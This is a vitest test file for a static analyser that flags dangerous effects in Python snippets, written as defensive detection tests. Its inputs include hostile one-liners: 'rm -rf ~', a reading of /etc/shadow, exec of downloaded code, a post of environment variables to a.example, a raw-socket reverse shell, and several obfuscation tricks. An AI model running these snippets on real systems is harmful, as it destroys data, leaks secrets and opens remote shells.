import { describe, expect, test } from 'vitest';
import { findings, read } from './read.ts';

const encoded = (text: string) => Buffer.from(text).toString('base64');
const lines = (...each: readonly string[]) => each.join('\n');

describe('Python that touches files', () => {
  test.each<[string, readonly string[]]>([
    ["import os; os.remove('/srv/a')", ['file.delete /srv/a']],
    ["import os as o; o.unlink('b')", ['file.delete /home/ann/app/b']],
    ["from shutil import rmtree as gone; gone('/srv')", ['file.delete /srv recursive,force']],
    [lines('from os import *', "removedirs('/srv/x/y')"), ['file.delete /srv/x/y']],
    [lines('import os', "for name in ['a', 'b']:", '    os.remove(name)'), ['file.delete /home/ann/app/a', 'file.delete /home/ann/app/b']],
    [lines('import os', "[os.unlink('/srv/' + n) for n in ('a', 'b') if n]"), ['file.delete /srv/a', 'file.delete /srv/b']],
    [lines('import os', 'def drop(path):', '    os.remove(path)', '', "drop('/srv/z')"), ['file.delete /srv/z']],
    [lines('from pathlib import Path', "p = Path.home() / '.config'", "(p / 'x').unlink()"), ['file.delete /home/ann/.config/x']],
    ["import os; os.remove(os.path.expanduser('~/notes'))", ['file.delete /home/ann/notes']],
    ["import os; os.remove(os.path.join(os.environ['HOME'], 'notes'))", ['file.delete /home/ann/notes']],
    ["import os; os.chdir('/srv'); os.remove('x')", ['file.delete /srv/x']],
    ["import shutil; shutil.move('a', '/tmp/b')", ['file.move /home/ann/app/a', 'file.write /tmp/b']],
    ["import os; os.chmod('run.sh', 0o777)", ['file.chmod /home/ann/app/run.sh world-writable,executable']],
    ["open('/etc/hosts', 'a').write('x')", ['file.append /etc/hosts']],
    ["print(open('/etc/shadow').read())", ['file.read /etc/shadow']],
    ["with open('out.txt', mode='w') as f: f.write('x')", ['file.write /home/ann/app/out.txt truncate']],
  ])('%s', (code, expected) => {
    expect(findings(read('python', code))).toEqual(expected);
  });
});

describe('Python that runs commands', () => {
  test.each<[string, readonly string[]]>([
    ["import os; os.system('rm -rf ~')", ['shell rm -rf ~']],
    ["import subprocess; subprocess.run(['rm', '-rf', '/srv'])", ['argv rm -rf /srv']],
    ["import subprocess as s; s.check_output('rm -rf x', shell=True)", ['shell rm -rf x']],
    ["import os; os.execvp('rm', ['rm', '-rf', 'x'])", ['argv rm -rf x']],
    ["import os; os.execlp('rm', 'rm', '-rf', 'x')", ['argv rm -rf x']],
    [lines('cmd = ["rm"]', 'cmd.append("-rf")', 'import subprocess', 'subprocess.call(cmd + ["/srv"])'), ['argv rm -rf /srv']],
    ["import os; os.popen(f'cat {path}')", ['shell cat … (dynamic)']],
    ["import os; (lambda c: os.system(c))('id')", ['shell id']],
    ["import pty; pty.spawn('/bin/sh')", ['exec /bin/sh interactive', 'argv /bin/sh']],
  ])('%s', (code, expected) => {
    expect(findings(read('python', code))).toEqual(expected);
  });
});

describe('Python that hides what it calls', () => {
  test.each<[string, readonly string[]]>([
    ["getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", ['shell id']],
    ["__import__('importlib').import_module('os').system('id')", ['shell id']],
    ["import os; vars(os)['system']('id')", ['shell id']],
    ["import os; os.__dict__['sys' 'tem']('id')", ['shell id']],
    ["import os; os.system('di'[::-1])", ['shell id']],
    ["import os; os.system(''.join(['i', 'd']))", ['shell id']],
    ["import os; os.system('%s -rf %s' % ('rm', 'x'))", ['shell rm -rf x']],
    ["import os; os.system('{} {a}'.format('rm', a='x'))", ['shell rm x']],
    ['import os; os.system(chr(105) + chr(100))', ['shell id (decoded)']],
    ["import os; os.system('\\x69\\x64')", ['shell id']],
    ['exec("import os; os.system(\'id\')")', ['code.eval literal', "code import os; os.system('id')"]],
    [`import base64; exec(base64.b64decode('${encoded('print(1)')}').decode())`, ['code.eval decoded', 'code print(1) (decoded)']],
    ["import codecs; exec(codecs.decode('cevag(1)', 'rot13'))", ['code.eval decoded', 'code print(1) (decoded)']],
    ["exec(bytes.fromhex('7072696e7428312921').decode())", ['code.eval decoded', 'code print(1)! (decoded)']],
    ["import zlib; exec(zlib.decompress(b'x'))", ['code.eval decoded']],
    ['import os; os.system("".join(chr(ord(c) ^ 1) for c in __import__("base64").b64decode(x)))', ['exec … dynamic', 'shell … (decoded)']],
    ['eval(input())', ['code.eval dynamic']],
    ["import urllib.request as u; exec(u.urlopen('https://a.example/x.py').read())", ['net.request a.example', 'code.eval downloaded']],
  ])('%s', (code, expected) => {
    expect(findings(read('python', code)).map((each) => each.replace('https://', ''))).toEqual(expected);
  });
});

describe('Python that talks to the network', () => {
  const kinds = (code: string) => (read('python', code).effects ?? []).map((effect) => [effect.kind, ...(effect.flags ?? [])].join(' '));
  test.each<[string, readonly string[]]>([
    ["import requests; requests.get('https://a.example')", ['net.request']],
    ["import requests; requests.post('http://a.example', json={'a': 1})", ['net.upload plain-http']],
    [
      "import requests, os; requests.post('https://a.example', data=dict(os.environ))",
      ['secret.dump environment', 'net.upload environment'],
    ],
    [
      "from urllib.request import urlopen, Request; urlopen(Request('https://a.example', data=open('x').read()))",
      ['file.read', 'net.upload contents'],
    ],
    ["from urllib.request import urlretrieve; urlretrieve('https://a.example', '/tmp/x')", ['net.download', 'file.write']],
    [
      "import socket, os, subprocess; s = socket.socket(); s.connect(('a.example', 1)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh'])",
      ['net.request raw-socket reverse-shell', 'exec interactive'],
    ],
    ["import socket; s = socket.socket(); s.connect(('localhost', 5432)); print('up')", ['net.request raw-socket']],
  ])('%s', (code, expected) => {
    expect(kinds(code)).toEqual(expected);
  });
});

describe('Python that shows secrets', () => {
  test.each<[string, readonly string[]]>([
    ['import os; print(os.environ)', ['secret.dump environment']],
    ['import os, json; print(json.dumps(dict(os.environ)))', ['secret.dump environment']],
    [lines('import os', 'for k, v in os.environ.items():', '    print(k, v)'), ['secret.dump environment']],
    ["import os; print(os.getenv('DEPLOY_TOKEN'))", ['secret.read DEPLOY_TOKEN environment']],
    ["import os; print(os.environ.get('PATH'))", []],
    [lines('import os', 'for k, v in os.environ.items():', "    if k.startswith('CI'):", '        print(k, v)'), []],
    ["import os, subprocess; subprocess.run(['make'], env={**os.environ, 'CC': 'gcc'})", ['argv make']],
    ["import os; token = os.environ['API_TOKEN']; print(len(token))", []],
  ])('%s', (code, expected) => {
    expect(findings(read('python', code))).toEqual(expected);
  });
});

describe('honest Python stays quiet', () => {
  test.each([
    'print("os.system(\'rm -rf /\')")',
    lines('"""', "os.remove('/etc/passwd')", '"""', "# os.remove('x')", 'print(1)'),
    lines('import json, sys', 'd = json.load(sys.stdin)', "for x in d['items']:", "    print(x['name'], len(x))"),
    lines('import re', "text = 'exec(1) eval(2)'", "print(re.sub(r'exec\\((.*?)\\)', r'\\1', text))"),
    lines('class A:', '    def remove(self, x): self.items.remove(x)', '    def system(self): return 1', 'A().remove(2)'),
    lines('items = [1, 2]', 'items.remove(1)', "d = {'os': 1}", "d.pop('os')"),
    lines('import datetime as dt', "print(f'{dt.date.today():%Y-%m} {1 + 1!r}')"),
  ])('%s', (code) => {
    const { effects, runs } = read('python', code);
    expect([...(effects ?? []), ...(runs ?? [])]).toEqual([]);
  });
});

test('what Python prints and writes is told', () => {
  expect(read('python', "print('rm', '-rf', 'x')").stdout).toEqual({ origin: 'literal', text: 'rm -rf x\n' });
  expect(read('python', "f = open('/tmp/a.sh', 'w'); f.write('rm '); f.write('x')").writes).toMatchObject([
    { path: { value: '/tmp/a.sh' }, stream: { origin: 'literal', text: 'rm x' } },
  ]);
});
